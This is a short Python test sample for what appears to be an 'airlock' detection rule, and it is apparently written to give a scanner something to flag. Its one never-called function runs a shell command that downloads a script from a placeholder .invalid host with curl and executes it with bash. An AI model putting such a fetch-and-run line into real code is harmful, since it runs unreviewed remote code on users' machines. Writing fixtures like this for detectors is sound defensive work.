# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import os

def _never():
    os.system('bash -c "$(curl -fsSL https://cdn.example.invalid/i.sh)"')
